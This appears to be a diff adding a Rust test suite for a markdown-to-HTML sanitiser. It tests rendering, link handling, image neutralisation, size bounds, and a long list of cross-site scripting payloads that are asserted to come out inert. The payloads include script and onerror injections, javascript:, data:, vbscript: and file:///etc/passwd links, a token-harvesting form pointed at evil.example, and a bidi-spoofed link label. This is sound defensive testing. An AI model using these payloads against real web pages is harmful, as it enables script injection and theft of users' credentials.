@@ -1,0 +1,180 @@
+//! What comes out of honest and of hostile bodies.
+
+use super::render;
+
+#[test]
+fn markdown_is_shown_as_markdown() {
+    let html = render("# Done\n\n**All** ~~bad~~ good, `x`\nnext\n\n- [x] a\n- [ ] b\n\n3. c\n");
+    for part in [
+        "<h1>Done</h1>",
+        "<strong>All</strong> <del>bad</del> good, <code>x</code><br>",
+        "<li>☑ a</li>",
+        "<li>☐ b</li>",
+        "<ol start=\"3\">",
+    ] {
+        assert!(html.contains(part), "{part} in {html}");
+    }
+    let table = render("|a|b|\n|-|-:|\n|1|2|");
+    assert!(table.contains("<td>1</td><td>2</td>"), "{table}");
+    let code = render("```rust\nlet a = \"<b>\";\n```");
+    assert_eq!(
+        code.trim(),
+        "<pre><code class=\"language-rust\">let a = \"&lt;b&gt;\";\n</code></pre>"
+    );
+}
+
+#[test]
+fn links_say_and_do_the_same() {
+    assert_eq!(
+        render("[docs](https://example.com/a?b=1)").trim(),
+        r#"<p><a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">docs</a></p>"#
+    );
+    let html = render("See https://example.com/x_(1), or (http://a.example).");
+    assert!(html.contains(r#"href="https://example.com/x_(1" "#), "{html}");
+    assert!(html.contains(r#"href="http://a.example" "#), "{html}");
+    assert!(html.contains("</a>)."), "{html}");
+    for unlinked in ["xhttp://a.example", "http://", "`http://a.example`", "    http://a.example"] {
+        assert!(!render(unlinked).contains("<a"), "{unlinked}");
+    }
+}
+
+#[test]
+fn images_become_words_and_a_link() {
+    let html = render("![a cat](https://tracker.example/cat.png)");
+    assert!(!html.contains("<img") && !html.contains("src="), "{html}");
+    assert!(html.contains("a cat <a href=\"https://tracker.example/cat.png\""), "{html}");
+    let inside = render("[![a cat](https://tracker.example/c.png)](https://b.example)");
+    assert_eq!(inside.matches("<a ").count(), 1, "{inside}");
+}
+
+/// Bodies that would do something, were they let.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"https://tracker.example/p.gif\">",
+    "<svg onload=alert(1)><script>1</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<form action=https://evil.example><input name=token><button>ok</button></form>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<p style=\"position:fixed;inset:0\">x</p>",
+    "<p id=app class=toast onclick=alert(1)>x</p>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "<video src=https://evil.example autoplay></video><audio src=x></audio>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=https://evil.example ping=https://evil.example target=_top>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](file:///etc/passwd)",
+    "[x](tauri://localhost/)",
+    "[x](ipc://localhost/ask)",
+    "[x](//evil.example/x)",
+    "[x](/index.html)",
+    "[x](#app)",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "![x\" onerror=\"alert(1)](https://evil.example/a.png \"t\\\" onload=\\\"x\")",
+    "[a](https://evil.example \"t\\\" onmouseover=\\\"alert(1)\")",
+    "```\"><script>alert(1)</script>\nx\n```",
+    "```language-x onload=alert(1)\nx\n```",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<template><script>alert(1)</script></template>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<x onfocus=alert(1) autofocus tabindex=1>",
+    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
+    "\u{0}<script\u{0}>alert(1)</script>",
+];
+
+#[test]
+fn hostile_bodies_are_inert() {
+    for body in HOSTILE {
+        let html = render(body);
+        for (tag, attributes) in marks(&html) {
+            assert!(
+                [
+                    "p", "br", "hr", "blockquote", "ul", "ol", "li", "pre", "code", "em", "strong",
+                    "del", "a", "table", "thead", "tbody", "tr", "th", "td",
+                ]
+                .contains(&tag.as_str()),
+                "{body:?} gave <{tag}>: {html}"
+            );
+            match tag.as_str() {
+                "a" => assert!(
+                    attributes.starts_with("href=\"https://evil.example")
+                        && attributes.ends_with("\" rel=\"noopener noreferrer nofollow\"")
+                        && attributes.matches('"').count() == 4,
+                    "{body:?} gave {html}"
+                ),
+                "code" => assert!(
+                    attributes.is_empty() || attributes == "class=\"language-x\"",
+                    "{body:?} gave {html}"
+                ),
+                _ => assert_eq!(attributes, "", "{body:?} gave {html}"),
+            }
+        }
+    }
+}
+
+/// The opening marks in cleaned HTML: the cleaner leaves no other `<`.
+fn marks(html: &str) -> Vec<(String, String)> {
+    html.split('<')
+        .skip(1)
+        .filter(|mark| !mark.starts_with('/'))
+        .map(|mark| {
+            let inside = mark.split('>').next().unwrap_or_default();
+            let (tag, attributes) = inside.split_once(' ').unwrap_or((inside, ""));
+            (tag.to_owned(), attributes.to_owned())
+        })
+        .collect()
+}
+
+#[test]
+fn what_was_written_stays_readable() {
+    let html = render("before <script>alert(1)</script> after");
+    assert!(html.contains("before &lt;script&gt;alert(1)&lt;/script&gt; after"), "{html}");
+}
+
+#[test]
+fn text_keeps_its_direction() {
+    let html = render("[\u{202e}moc.knab\u{202c}](https://evil.example) \u{2066}x\u{2069}");
+    assert!(!html.contains(['\u{202e}', '\u{202c}', '\u{2066}', '\u{2069}']), "{html}");
+    assert!(html.contains("moc.knab"), "{html}");
+}
+
+#[test]
+fn huge_bodies_are_bounded() {
+    let mebi = 1024 * 1024;
+    for body in [
+        "x".repeat(mebi),
+        "> ".repeat(mebi / 2),
+        "- ".repeat(mebi / 2),
+        "*".repeat(mebi),
+        "[".repeat(mebi),
+        "![".repeat(mebi / 2),
+        "<".repeat(mebi),
+        "&".repeat(mebi),
+        "http://".repeat(mebi / 7),
+        "http".repeat(mebi / 4),
+        format!("{}\n{}\n{}", "|a".repeat(1000), "|-".repeat(1000), "|\n".repeat(mebi / 2)),
+    ] {
+        let began = std::time::Instant::now();
+        let html = render(&body);
+        assert!(html.len() < 8 * mebi, "{} bytes", html.len());
+        // A guard against work that grows with the square, not a measure of speed.
+        assert!(began.elapsed().as_secs() < 60, "{:?}: {:.9}", began.elapsed(), body);
+    }
+    assert!(render(&"x".repeat(mebi)).len() >= mebi);
+}
